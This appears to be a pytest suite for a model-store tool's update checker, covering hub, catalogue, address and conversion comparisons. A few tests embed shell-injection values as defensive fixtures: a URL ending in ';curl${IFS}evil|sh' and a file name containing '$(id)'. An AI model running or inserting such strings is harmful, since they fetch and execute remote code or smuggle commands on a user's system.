from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from tests.hub.content import repository
from tests.hub.faults import Fault
from tests.hub.server import LoopbackHub
from tests.service.fakes import an_installation
from tests.stores import CONTENT, install, receipt_of, sha256_of
from wizard_edge import __version__
from wizard_edge.errors import HubError
from wizard_edge.names import CommitId, RelPath, RepoId
from wizard_edge.receipts import Check, CheckedFile, Origin, Piece, Receipt
from wizard_edge.service.installation import Installation
from wizard_edge.service.pieces import way_to_make_anew
from wizard_edge.service.updates import (
    Newer,
    Outlook,
    Update,
    Where,
    find_updates,
)

REPO = RepoId("owner/small-GGUF")
OTHER = RepoId("owner/other")
TOOL = f"wizard-edge {__version__}"


@dataclass(frozen=True)
class Shop:
    """A store and the hub its models came from."""

    installation: Installation
    hub: LoopbackHub
    head: CommitId

    def add(
        self,
        *,
        name: str = "small",
        repo: RepoId = REPO,
        path: str = "small.gguf",
        url: str | None = None,
        etag: str | None = None,
    ) -> Receipt:
        """Install a file that came from the hub, or from an address."""
        size, digest = len(CONTENT), sha256_of(CONTENT)
        piece = (
            Piece(size, digest, url=url, etag=etag)
            if url
            else Piece(size, digest, repo, self.head, RelPath(path))
        )
        receipt = receipt_of(
            name=name, pieces=(piece,), origin=Origin("hub", repo, self.head)
        )
        return install(self.installation.store, receipt).receipt

    def update(self) -> Update:
        [found] = find_updates(self.installation).updates
        return found


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Shop]:
    hosted = repository(REPO, {"small.gguf": CONTENT, "b.gguf": b"b"})
    with LoopbackHub(hosted) as hub:
        installation = an_installation(tmp_path, HF_ENDPOINT=hub.endpoint)
        yield Shop(installation, hub, CommitId(hosted.head))


def push(shop: Shop, **files: bytes) -> None:
    """Make another state the head of the repository; dots for underscores."""
    content = {name.replace("_", "."): data for name, data in files.items()}
    later = repository(REPO, dict(content))
    shop.hub.hosted.repositories[REPO].push(later.files)


def with_registry(shop: Shop, sha256: str) -> None:
    folder = shop.installation.config_dir
    folder.mkdir()
    (folder / "models.toml").write_text(
        'schema = 1\n[models.small]\ntitle = "Small"\narchitecture = "llama"\n'
        'template = "vicuna"\nlicenses = ["apache-2.0"]\n'
        f'[models.small.gguf]\nrepo = "{REPO}"\nfile = "{{quant}}.gguf"\n'
        f'revision = "{shop.head}"\n'
        f'[models.small.variants]\nQ8_0 = {{ sha256 = "{sha256}" }}\n'
    )


def test_an_empty_store_asks_nobody(shop: Shop) -> None:
    assert find_updates(shop.installation) == Outlook(())
    assert shop.hub.log == []


def test_what_is_as_it_was_is_up_to_date(shop: Shop) -> None:
    shop.add()

    assert shop.update() == Update("small", "Q8_0", (), None, checked=True)


def test_a_commit_that_changes_other_files_is_no_news(shop: Shop) -> None:
    shop.add()
    push(shop, small_gguf=CONTENT, README_md=b"new")

    assert shop.update().newer == ()


def test_another_content_at_the_head_is_newer(shop: Shop) -> None:
    shop.add()
    push(shop, small_gguf=b"new")

    place = "hf:owner/small-GGUF/small.gguf"
    assert shop.update().newer == (
        Newer(
            where=Where.HUB,
            what=f"{place} is another file by now",
            command=f"wizard-edge rm small:Q8_0 && wizard-edge pull {place}",
        ),
    )


def test_a_file_that_is_gone_is_a_problem_and_no_news(shop: Shop) -> None:
    shop.add()
    push(shop, b_gguf=b"b")

    found = shop.update()

    assert (found.newer, found.checked) == ((), False)
    assert (found.problem or "").startswith(
        "no file small.gguf in owner/small-GGUF at "
    )


def test_a_repository_is_asked_once(shop: Shop) -> None:
    for name in ("a", "b", "c"):
        shop.add(name=name)

    find_updates(shop.installation)

    assert shop.hub.lines() == [f"GET api /api/models/{REPO}?blobs=true"]


def test_the_catalogue_may_name_another_file(shop: Shop) -> None:
    with_registry(shop, "a" * 64)
    shop.add()

    [found] = shop.update().newer

    assert (found.where, found.what) == (
        "catalogue",
        "the catalogue names another file",
    )
    assert found.command == "wizard-edge rm small:Q8_0 && wizard-edge pull small:Q8_0"


def test_the_file_of_the_catalogue_is_up_to_date(shop: Shop) -> None:
    with_registry(shop, sha256_of(CONTENT))
    shop.add()

    assert (shop.update().newer, shop.update().checked) == ((), True)


def test_an_import_of_a_known_file_is_looked_for_on_the_hub(shop: Shop) -> None:
    with_registry(shop, sha256_of(CONTENT))
    install(shop.installation.store, receipt_of(origin=Origin("hub", REPO, shop.head)))
    shop.hub.hosted.repositories[REPO].push(
        repository(REPO, {"Q8_0.gguf": b"new"}).files
    )

    [found] = shop.update().newer

    assert found.what == "hf:owner/small-GGUF/Q8_0.gguf is another file by now"


def test_a_file_somebody_brought_along_is_nobodys_news(shop: Shop) -> None:
    with_registry(shop, "a" * 64)
    install(shop.installation.store, receipt_of())

    assert shop.update() == Update("small", "Q8_0", (), None, checked=False)
    assert shop.hub.log == []


def test_without_the_network_the_catalogue_still_answers(shop: Shop) -> None:
    with_registry(shop, "a" * 64)
    shop.add()
    environ = {**shop.installation.environ, "HF_HUB_OFFLINE": "1"}

    outlook = find_updates(replace(shop.installation, environ=environ))

    [found] = outlook.updates
    assert [newer.where for newer in found.newer] == ["catalogue"]
    assert found.problem == "HF_HUB_OFFLINE is set, and this needs the hub"
    assert outlook.error is None
    assert shop.hub.log == []


@pytest.mark.parametrize("known", [True, False], ids=["known", "not known"])
def test_a_silent_hub_is_an_error_where_nobody_else_knows(
    shop: Shop, known: bool
) -> None:
    if known:
        with_registry(shop, sha256_of(CONTENT))
    shop.add()
    shop.hub.faults.add(Fault(where="api", status=503, times=9))

    outlook = find_updates(shop.installation)

    assert outlook.updates[0].problem
    assert isinstance(outlook.error, HubError) == (not known)


def test_offline_on_purpose_is_no_error(shop: Shop) -> None:
    shop.add()
    environ = {**shop.installation.environ, "HF_HUB_OFFLINE": "1"}

    outlook = find_updates(replace(shop.installation, environ=environ))

    assert (outlook.error, outlook.updates[0].checked) == (None, False)


def test_a_hub_that_fails_twice_is_asked_no_more(shop: Shop) -> None:
    for number in range(5):
        shop.add(name=f"m{number}", repo=RepoId(f"owner/m{number}"))
    shop.hub.faults.add(Fault(where="api", status=503, times=99))

    outlook = find_updates(shop.installation)

    assert len(shop.hub.log) == 2
    assert all(update.problem for update in outlook.updates)


def test_one_repository_that_is_gone_does_not_keep_others_from_being_asked(
    shop: Shop,
) -> None:
    for name in ("a", "b", "c"):
        shop.add(name=name, repo=RepoId(f"owner/{name}"))
    shop.add(name="d")

    found = find_updates(shop.installation).updates

    assert [bool(update.problem) for update in found] == [True, True, True, False]


@pytest.mark.parametrize(
    ("etag", "newer"), [('"other"', 1), (None, 0)], ids=["another", "nobody knows"]
)
def test_an_address_that_serves_something_else_is_newer(
    shop: Shop, etag: str | None, newer: int
) -> None:
    url = f"{shop.hub.cdn}/{sha256_of(CONTENT)}"
    shop.add(url=url, etag=etag)

    assert len(shop.update().newer) == newer


def test_an_address_that_serves_the_same_is_up_to_date(shop: Shop) -> None:
    content = shop.hub.hosted.repositories[REPO].files["small.gguf"]
    etag = f'"{content.blob[:32]}"'
    shop.add(url=f"{shop.hub.cdn}/{content.sha256}", etag=etag)

    assert shop.update() == Update("small", "Q8_0", (), None, checked=True)


def test_an_address_is_quoted_in_a_command_to_copy(shop: Shop) -> None:
    """Whoever wrote the receipt may hope for a shell."""
    url = f"{shop.hub.cdn}/{sha256_of(CONTENT)};curl${{IFS}}evil|sh"
    receipt = shop.add(url=url, etag='"other"')

    command = f"wizard-edge rm small:Q8_0 && wizard-edge pull '{url}'"
    assert way_to_make_anew(shop.installation, receipt) == command


def test_a_file_that_is_another_is_quoted_in_a_command_to_copy(shop: Shop) -> None:
    push(shop, **{"$(id)_gguf": b"another"})
    shop.add(path="$(id).gguf")

    [found] = shop.update().newer

    assert found.command == (
        f"wizard-edge rm small:Q8_0 && wizard-edge pull 'hf:{REPO}/$(id).gguf'"
    )


def test_an_address_of_something_else_is_quoted_too(shop: Shop) -> None:
    url = f"{shop.hub.cdn}/{sha256_of(CONTENT)}?a=1&b=2"
    shop.add(url=url, etag='"other"')

    [found] = shop.update().newer

    assert found.command == (f"wizard-edge rm small:Q8_0 && wizard-edge pull '{url}'")


def converted(shop: Shop, tool: str, sha256: str) -> None:
    weights = CheckedFile(
        RelPath("model.safetensors"), 3, Check.SHA256, sha256_of(sha256.encode())
    )
    receipt = receipt_of(origin=Origin("hub", OTHER, shop.head))
    receipt = replace(receipt, tool=tool, weights=(weights,))
    install(shop.installation.store, receipt)
    shop.hub.add(repository(OTHER, {"model.safetensors": b"abc"}))


def test_a_conversion_of_the_same_weights_is_up_to_date(shop: Shop) -> None:
    converted(shop, TOOL, "abc")

    assert shop.update() == Update("small", "Q8_0", (), None, checked=True)


def test_other_weights_are_newer(shop: Shop) -> None:
    converted(shop, TOOL, "before")

    [found] = shop.update().newer

    assert (found.where, found.what) == (
        "weights",
        "the weights in owner/other are others",
    )
    assert found.command == "wizard-edge convert hf:owner/other -q Q8_0 --overwrite"


@pytest.mark.parametrize(
    ("tool", "newer"),
    [
        ("wizard-edge 0.0.9", True),
        ("wizard-edge 99.0", False),
        ("llama.cpp b1", False),
    ],
)
def test_a_conversion_by_an_older_program_is_outdated(
    shop: Shop, tool: str, newer: bool
) -> None:
    converted(shop, tool, "abc")

    found = shop.update().newer

    assert [item.where for item in found] == (["tool"] if newer else [])
    if newer:
        assert found[0].what == f"made by wizard-edge 0.0.9, this is {TOOL}"
